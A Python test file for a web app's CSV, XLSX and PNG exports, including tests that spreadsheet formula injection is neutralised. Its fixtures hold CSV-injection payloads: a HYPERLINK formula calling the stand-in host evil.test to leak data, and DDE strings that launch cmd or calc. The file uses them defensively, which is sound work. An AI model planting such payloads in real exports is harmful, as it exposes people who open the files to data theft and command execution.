"""Figure exports: CSV with BOM, XLSX that opens, PNG with the footer rendered offline."""

from __future__ import annotations

import io
import re
from datetime import date, datetime, time

import pandas as pd
from hypothesis import given
from hypothesis import strategies as hs
from openpyxl import load_workbook

from web import charts, exports

FRAME = pd.DataFrame(
    [
        {"label": "退款问题", "count": 7, "percent": "38.89%"},
        {"label": "虚假促销", "count": 3, "percent": "16.67%"},
    ]
)


def test_csv_has_bom_for_excel():
    data = exports.csv_bytes(FRAME)
    assert data.startswith(b"\xef\xbb\xbf")
    assert '"退款问题",7,"38.89%"' in data.decode("utf-8-sig")  # text quoted, numbers bare


def test_xlsx_round_trip():
    book = load_workbook(io.BytesIO(exports.xlsx_bytes(FRAME, "问题类型")))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0] == ("label", "count", "percent")
    assert rows[1] == ("退款问题", 7, "38.89%")


def test_png_is_rendered_with_footer():
    png = exports.chart_png(charts.shares_bar(FRAME, "问题类型"), "问题类型分布", date(2026, 1, 2))
    assert png.startswith(b"\x89PNG")
    assert len(png) > 5_000
    assert "2026-01-02" in exports.footer_text(date(2026, 1, 2))


# --- text from data never runs in a spreadsheet (OWASP CSV injection) ------------------

HOSTILE = pd.DataFrame(
    {
        "平台": [
            '=HYPERLINK("http://evil.test/?leak","点我")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+2",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "＝1+1",
            "普通平台",
            "-3",
            "-12.5%",
            None,
        ],
        "投诉量": [-1, 0, 2, -30, 4, 5, 6, 7, 8, 9, 10, 11],
        "综合指数": [-0.25, 0.5, 1.0, float("nan"), 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8],
    }
)
FORMULA_LIKE = 8  # the first eight names


def csv_rows(data: bytes) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_formula_like_text_but_not_numbers():
    rows = csv_rows(exports.csv_bytes(HOSTILE))
    names = [r[0] for r in rows[1:]]
    for original, written in zip(HOSTILE["平台"][:FORMULA_LIKE], names, strict=False):
        assert written.startswith("'"), written
        assert written[1:] == original.replace("\r", "\n")
    assert names[FORMULA_LIKE:] == ["普通平台", "-3", "-12.5%", ""]
    # negative numbers stored as numbers are written as numbers, unquoted, unprefixed
    text = exports.csv_bytes(HOSTILE).decode("utf-8-sig")
    assert "\n\"'=HYPERLINK" in text and ",-1,-0.25\n" in text and ",-30," in text
    assert [r[1] for r in rows[1:3]] == ["-1", "0"]


def test_csv_cannot_start_a_row_inside_a_cell():
    """A lone carriage return would end Excel's row unquoted; the next 'cell' would run."""
    data = exports.csv_bytes(pd.DataFrame({"标题": ['退款\r=HYPERLINK("http://evil.test")']}))
    rows = csv_rows(data)
    assert rows == [["标题"], ['退款\n=HYPERLINK("http://evil.test")']]
    assert b"\r" not in data


def test_csv_headers_are_neutralised_too():
    rows = csv_rows(exports.csv_bytes(pd.DataFrame({"=cmd": [1]})))
    assert rows[0] == ["'=cmd"]


def test_xlsx_writes_text_as_text_never_as_formula():
    import zipfile

    data = exports.xlsx_bytes(HOSTILE, "评级")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = load_workbook(io.BytesIO(data))
    cells = list(book.active.iter_rows(min_row=2))
    for i, (row, original) in enumerate(zip(cells, HOSTILE["平台"], strict=True)):
        name = row[0]
        if pd.isna(original):
            assert name.value is None
            continue
        # the exact text, as text (an XML parser may read a carriage return back as a line
        # feed: openpyxl's own does, lxml's — present with python-docx — does not)
        assert name.data_type == "s"
        assert name.value in (original, original.replace("\r", "\n"))
        assert name.quotePrefix == (i < FORMULA_LIKE)  # Excel keeps it text when edited
    counts = [row[1] for row in cells]
    assert [c.value for c in counts[:4]] == [-1, 0, 2, -30]
    assert all(c.data_type == "n" for c in counts)
    assert cells[0][2].value == -0.25 and cells[3][2].value is None


def test_xlsx_survives_control_characters_and_odd_sheet_names():
    frame = pd.DataFrame({"标题\x01": ["退\x00款\x08问\x1f题\x0b", "换行\n保留\t制表"]})
    for title in ("平台/赛道: 2024?*[全部]", "'引号'", "History", "", "\x07", "长" * 40):
        book = load_workbook(io.BytesIO(exports.xlsx_bytes(frame, title)))
        sheet = book.active
        assert 1 <= len(sheet.title) <= 31
        assert not set(sheet.title) & set(":\\/?*[]")
        assert not sheet.title.startswith("'") and not sheet.title.endswith("'")
        assert sheet.title.lower() != "history"
        assert [c.value for c in sheet["A"]] == ["标题", "退款问题", "换行\n保留\t制表"]
    assert load_workbook(io.BytesIO(exports.xlsx_bytes(frame, "平台/赛道"))).active.title == (
        "平台_赛道"
    )


def test_download_file_names_are_safe():
    assert exports.file_name('平台/赛道: "2024" <全部>?') == "平台_赛道_2024_全部"
    assert exports.file_name("...") == "数据"
    assert exports.file_name("广东省 · 问题类型") == "广东省_问题类型"
    assert exports.file_name("卡·西欧 · 被投诉平台") == "卡·西欧_被投诉平台"  # a name keeps its dot


_WORD = hs.text(hs.characters(categories=("L", "N"), max_codepoint=0x9FFF), min_size=1, max_size=4)
_GLUE = hs.sampled_from([" · ", " ", "·", "_", "/", " / ", ": ", "__", " _ ", "\t", " ・ "])


@given(hs.lists(hs.tuples(_WORD, _GLUE), min_size=1, max_size=5), _WORD)
def test_file_names_join_parts_with_one_underscore(parts, last):
    """Any title built of words and separators: parts joined by exactly one "_", no
    character Windows refuses, no dot left dangling beside an underscore."""
    title = "".join(w + g for w, g in parts) + last
    name = exports.file_name(title)
    assert not re.search(r'[\\/:*?"<>|\s]', name)
    assert not re.search(r"_[·・]|[·・]_|__", name), (title, name)
    assert not name.startswith(("_", "·")) and not name.endswith(("_", "·"))
    words = [w for w, _g in parts] + [last]
    assert re.sub(r"[_·・]", "", name) == "".join(words).replace("·", "").replace("・", "")


def test_cli_csv_neutralises_too():
    from cli.output import render

    out = render(
        [{"label": '=HYPERLINK("http://evil.test")', "count": -3, "percent": "-1.5%"}],
        ("label", "count", "percent"),
        "csv",
    )
    assert csv_rows(out.encode()) == [
        ["label", "count", "percent"],
        ['\'=HYPERLINK("http://evil.test")', "-3", "-1.5%"],
    ]


def test_every_spreadsheet_is_written_in_one_place():
    """Downloads and exports go through dashboard/exports.py (and the CLI's csv through
    cli/output.py): no page writes CSV or XLSX itself, bypassing the neutralisation."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = ("to_csv(", "to_excel(", "ExcelWriter", "csv.writer", "DictWriter", "Workbook(")
    allowed = {root / "dashboard" / "exports.py", root / "cli" / "output.py"}
    offenders = [
        str(path.relative_to(root))
        for folder in ("admin", "dashboard", "cli", "models")
        for path in (root / folder).rglob("*.py")
        if path not in allowed and any(w in path.read_text() for w in writers)
    ]
    assert offenders == []


@given(hs.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)))
def test_a_time_is_shown_unless_it_is_a_date_alone(at):
    """frames.moment, what lists and case views print: the date alone exactly when the
    stored time is midnight (a date-only source), else the minute; either reads back."""
    from web.frames import moment

    shown = moment(at)
    midnight = at.time() == time(0)
    assert (len(shown) == 10) == midnight
    parsed = datetime.fromisoformat(shown)
    assert parsed == at.replace(second=0, microsecond=0)
